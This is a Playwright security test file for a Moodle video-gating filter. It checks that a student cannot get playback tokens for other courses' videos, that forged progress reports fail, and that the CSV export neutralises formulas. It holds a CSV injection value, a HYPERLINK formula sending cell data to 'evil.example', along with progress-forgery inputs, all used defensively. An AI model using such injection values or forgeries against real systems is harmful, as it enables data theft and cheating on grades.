/**
 * Issue 17, as an attacker would try it over HTTP in the real Moodle (testing/moodle/) against the
 * local stack: no browser, only a student's session (cookie jar + sesskey).
 *
 * - Every core endpoint that runs the filters over text the caller sends, in every context the
 *   student can name, with another course's video: no grant in the answer, and the service gives
 *   no token for what it rendered (so no cookie either). The figures are printed.
 * - A teacher's edit that drops a link stops it; a hidden book chapter answers as a wrong name.
 * - The progress forgeries of the issue fail: a short duration, a made-up folder, 2,000 ranges of
 *   1 ms, a position of 1e15, and a formula as a student's name in the teacher's CSV.
 * - An import of course B into course A keeps B's lecture playing there, up to the cookies.
 */
import type { DevVideo } from '../../common/contracts.ts';
import { MEDIA_URL } from './helpers.ts';
import { readFileSync } from 'node:fs';
import { callService, expect, lecturePath, phpProblems, session, skipWithoutMoodle, test, type MoodleSession, type MoodleSite } from './moodle.ts';

skipWithoutMoodle();
test.describe.configure({ mode: 'serial' });

/** A view token (JWT) anywhere in an answer. */
const TOKEN = /eyJ[A-Za-z0-9_-]{10,}\.eyJ/;

interface Page {
  cmid: number;
  contextid: number;
  files: Record<string, string>;
}

let videos: DevVideo[];
let lecture1: DevVideo; // embedded in course B only
let lecture2: DevVideo; // embedded in course A
let pageA: Page;
let pageB: Page;

async function setUp(moodle: MoodleSite, request: import('@playwright/test').APIRequestContext): Promise<void> {
  if (videos) return;
  videos = (await (await request.get(`${MEDIA_URL}/_dev/videos`)).json()) as DevVideo[];
  lecture1 = videos.find((v) => v.title === 'Lecture 1')!;
  lecture2 = videos.find((v) => v.title === 'Lecture 2')!;
  pageB = await moodle.helper<Page>({ command: 'page', course: 'HLSB', name: 'Course B lecture', html: `<p><a href="${lecture1.src}">Lecture 1</a></p>` });
  pageA = await moodle.helper<Page>({ command: 'page', course: 'HLSA', name: 'Embeds', html: `<p><a href="${lecture2.src}">Lecture 2</a></p>` });
}

const playback = (s: MoodleSession, contextid: number, url: string) =>
  callService(s, 'filter_hlsgate_get_playback', { contextid, url, grant: '' });

/** The players (src, contextid, any grant) in an answer's HTML, as the AMD module would read them. */
function placeholders(body: string): Array<{ src: string; contextid: number; grant: string | null }> {
  const html = body.replace(/\\"/g, '"').replace(/\\\//g, '/');
  return [...html.matchAll(/<span class="filter_hlsgate"([^>]*)>/g)].map((m) => {
    const attr = (name: string) => new RegExp(`${name}="([^"]*)"`).exec(m[1]!)?.[1] ?? null;
    return { src: (attr('data-hlsgate-src') ?? '').replace(/&amp;/g, '&'), contextid: Number(attr('data-hlsgate-contextid')), grant: attr('data-hlsgate-grant') };
  });
}

test('core endpoints that filter caller text give a student no grant, no token and no cookie, in any context', async ({ moodle, request }) => {
  await setUp(moodle, request);
  const logBefore = readFileSync(moodle.errorLog, 'utf8').length;
  const m = moodle.manifest;
  const student = await session(moodle, 'student1');
  // The control: the student does get a token for what a teacher embedded in course A.
  expect(TOKEN.test((await playback(student, pageA.contextid, lecture2.src)).body)).toBe(true);

  const contexts: Record<string, number> = {
    'course A': m.courses.A!.contextid,
    'course A page': m.welcome.contextid,
    'course A embeds page': pageA.contextid,
    'front page': m.frontpagecontextid,
    'own user context': m.users.student1!.contextid,
    system: m.systemcontextid,
    'course B (not enrolled)': m.courses.B!.contextid,
    'course B page (not enrolled)': pageB.contextid,
  };
  const made = `${lecture1.res.replace(/[^/]+\/$/, '')}${'Q'.repeat(22)}/master.m3u8`;
  const targets = [lecture1.src, made];
  const endpoints: Record<string, (contextid: number, text: string) => Promise<{ status: number; body: string }>> = {
    'tiny_equation_filter (lib/ajax/service.php)': (contextid, text) =>
      callService(student, 'tiny_equation_filter', { contextid, content: text }),
    'lib/editor/atto/plugins/equation/ajax.php?action=filtertext': async (contextid, text) => {
      const r = await student.request.post('/lib/editor/atto/plugins/equation/ajax.php', {
        form: { contextid: String(contextid), action: 'filtertext', text, sesskey: student.sesskey },
      });
      return { status: r.status(), body: await r.text() };
    },
    'core_get_fragment calendar/event_form (formdata with the link)': (contextid, text) =>
      callService(student, 'core_get_fragment', {
        component: 'calendar', callback: 'event_form', contextid,
        args: [{ name: 'formdata', value: `description[text]=${encodeURIComponent(text)}&description[format]=1` }],
      }),
    'core_get_fragment core_courseformat/section': (contextid, text) =>
      callService(student, 'core_get_fragment', {
        component: 'core_courseformat', callback: 'section', contextid,
        args: [{ name: 'id', value: '1' }, { name: 'courseid', value: String(m.courses.A!.id) }, { name: 'text', value: text }],
      }),
  };

  let requests = 0;
  let rendered = 0;
  let grants = 0;
  let tokens = 0;
  const cookies: string[] = [];
  for (const [endpoint, call] of Object.entries(endpoints)) {
    for (const [where, contextid] of Object.entries(contexts)) {
      for (const url of targets) {
        const answer = await call(contextid, `<p><a href="${url}">Lecture</a></p>`);
        requests += 1;
        expect(answer.status, `${endpoint} in ${where}`).toBeLessThan(500);
        const players = placeholders(answer.body);
        rendered += players.length;
        grants += players.filter((p) => p.grant !== null).length;
        tokens += TOKEN.test(answer.body) ? 1 : 0;
        // What the player would ask for: the placeholder's attributes, and the raw URL in that context.
        const asks = [...players.map((p) => ({ contextid: p.contextid, url: p.src })), { contextid, url }];
        for (const ask of asks) {
          const got = await playback(student, ask.contextid, ask.url);
          requests += 1;
          if (TOKEN.test(got.body)) {
            tokens += 1;
            const token = JSON.parse(got.body)[0].data.token as string;
            const s = await request.post(`${MEDIA_URL}/_auth/session`, { headers: { Authorization: `Bearer ${token}` } });
            cookies.push(...(s.headersArray().filter((h) => h.name.toLowerCase() === 'set-cookie').map((h) => h.value)));
          }
          expect(got.result?.error, `${endpoint} in ${where}: ${ask.url}`).toBe(true);
        }
      }
    }
  }
  const figures = { endpoints: Object.keys(endpoints), contexts: Object.keys(contexts), requests, rendered, grants, tokens, cookies: cookies.length };
  process.stdout.write(`moodle-embeds figures: ${JSON.stringify(figures)}\n`);
  test.info().annotations.push({ type: 'figures', description: JSON.stringify(figures) });
  expect(rendered, 'the equation endpoints did render players (the attack surface is real)').toBeGreaterThan(0);
  expect({ grants, tokens, cookies: cookies.length }).toEqual({ grants: 0, tokens: 0, cookies: 0 });
  expect(phpProblems(readFileSync(moodle.errorLog, 'utf8').slice(logBefore)).filter((line) => /filter[/_]hlsgate/.test(line))).toEqual([]);
  await student.dispose();
});

test('an edit that drops a link stops it, and a hidden chapter answers as a wrong name does', async ({ moodle, request }) => {
  await setUp(moodle, request);
  const student = await session(moodle, 'student1');
  const page = await moodle.helper<Page>({ command: 'page', course: 'HLSA', name: 'Edited', html: `<p><a href="${lecture2.src}">Lecture 2</a></p>` });
  expect(TOKEN.test((await playback(student, page.contextid, lecture2.src)).body)).toBe(true);
  await moodle.helper({ command: 'edit-page', cmid: page.cmid, html: '<p>The video was taken down.</p>', user: 'teacher' });
  expect((await playback(student, page.contextid, lecture2.src)).result?.exception?.errorcode).toBe('error:notembedded');

  const path = lecturePath(moodle, 'Lecture 2');
  const book = await moodle.helper<Page>({
    command: 'book', course: 'HLSA', name: 'Book',
    chapters: [{ title: 'Open', hidden: false, file: 'open.m3u8', path }, { title: 'Hidden', hidden: true, file: 'hidden.m3u8', path }],
  });
  expect(TOKEN.test((await playback(student, book.contextid, book.files['open.m3u8']!)).body)).toBe(true);
  const refusals = [book.files['hidden.m3u8']!, book.files['open.m3u8']!.replace('open.m3u8', 'guess.m3u8'),
    book.files['hidden.m3u8']!.replace('hidden.m3u8', 'guess.m3u8')];
  const answers = await Promise.all(refusals.map(async (url) => (await playback(student, book.contextid, url)).result?.exception));
  expect(answers[0]?.errorcode).toBe('error:notembedded');
  for (const answer of answers) expect(answer).toEqual(answers[0]);
  // The teacher sees the hidden chapter, and plays it.
  const teacher = await session(moodle, 'teacher');
  expect(TOKEN.test((await playback(teacher, book.contextid, book.files['hidden.m3u8']!)).body)).toBe(true);
  await Promise.all([student.dispose(), teacher.dispose()]);
});

test('the progress forgeries fail, and the CSV keeps a formula as text', async ({ moodle, request }) => {
  await setUp(moodle, request);
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Kim")';
  await moodle.helper({ command: 'rename', username: 'student2', firstname: evil });
  const student = await session(moodle, 'student2');
  const report = (args: Record<string, unknown>) => callService(student, 'filter_hlsgate_save_progress', {
    contextid: pageA.contextid, url: lecture2.src, grant: '', session: 'forged', seq: 1, ranges: [], position: 0, duration: 10, started: true, ...args,
  });
  // 2. A whole "10-second" video at once: the duration is the server's.
  const first = await report({ ranges: [{ start: 0, end: 10 }], position: 10 });
  expect(first.result?.error, first.body).toBe(false);
  const data = first.result!.data as { watched: number; duration: number; percent: number };
  // The sample lecture's playlists say 30 s: 10 of them, not 10 of 10.
  expect(data.duration).toBeGreaterThan(10);
  expect(data.percent).toBeLessThan(100);
  expect(data.percent).toBeCloseTo((10 / data.duration) * 100, 0);
  // 3. A made-up folder, and 2,000 ranges of 1 ms.
  const madeUp = `${lecture2.res.replace(/[^/]+\/$/, '')}${'Z'.repeat(22)}/master.m3u8`;
  expect((await report({ url: madeUp })).result?.exception?.errorcode).toBe('error:notembedded');
  // 2,000 ranges in one report (the most a report may carry; one more is refused whole), 1,999 of them 1 ms long.
  const tiny = Array.from({ length: 1999 }, (_, i) => ({ start: 20 + i * 0.002, end: 20 + i * 0.002 + 0.001 }));
  const bloated = await report({ seq: 2, ranges: [{ start: 0, end: 10 }, ...tiny], position: 12 });
  expect(bloated.result?.error, bloated.body.slice(0, 300)).toBe(false);
  expect((bloated.result?.data as { watched: number }).watched).toBe(data.watched);
  const over = await report({ seq: 3, ranges: [{ start: 0, end: 10 }, ...tiny, { start: 30, end: 30.001 }], position: 12 });
  expect(over.result?.exception?.errorcode, over.body.slice(0, 300)).toBe('invalidparameter');
  // 4. A position far beyond any column.
  const far = await report({ seq: 4, ranges: [{ start: 0, end: 10 }], position: 1e15 });
  expect(far.result?.error, far.body).toBe(false);
  expect((far.result?.data as { lastposition: number }).lastposition).toBe(data.duration);
  // 5. The teacher's CSV.
  const teacher = await session(moodle, 'teacher');
  const csv = await (await teacher.request.get(`/filter/hlsgate/report.php?id=${moodle.manifest.courses.A!.id}&download=csv`)).text();
  const line = csv.split('\n').find((l) => l.includes('HYPERLINK'));
  expect(line, csv.slice(0, 500)).toBeDefined();
  expect(line!.startsWith('"\'=HYPERLINK') || line!.startsWith('\'=HYPERLINK')).toBe(true);
  await Promise.all([student.dispose(), teacher.dispose()]);
  // The other specs know student2 as Kim Second.
  await moodle.helper({ command: 'rename', username: 'student2', firstname: 'Kim' });
});

test('an import of course B keeps its lecture playing in course A, up to the cookies', async ({ moodle, request }) => {
  await setUp(moodle, request);
  const student = await session(moodle, 'student1');
  const { pages } = await moodle.helper<{ pages: Array<{ name: string; contextid: number }> }>({ command: 'import', from: 'HLSB', to: 'HLSA' });
  const imported = pages.find((p) => p.name === 'Course B lecture');
  expect(imported).toBeDefined();
  const got = await playback(student, imported!.contextid, lecture1.src);
  expect(got.result?.error, got.body).toBe(false);
  const s = await request.post(`${MEDIA_URL}/_auth/session`, { headers: { Authorization: `Bearer ${(got.result!.data as { token: string }).token}` } });
  expect(s.status()).toBe(200);
  expect(s.headersArray().filter((h) => h.name.toLowerCase() === 'set-cookie')).toHaveLength(3);
  await student.dispose();
});
